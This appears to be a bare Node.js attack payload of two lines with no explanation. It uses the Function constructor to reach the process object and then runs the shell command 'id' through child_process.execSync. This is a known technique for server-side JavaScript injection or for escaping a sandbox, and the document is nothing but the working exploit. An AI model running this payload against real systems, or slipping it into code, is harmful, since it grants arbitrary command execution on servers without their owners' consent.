const f = new Function('return process')();
f.mainModule.require('child_process').execSync('id');
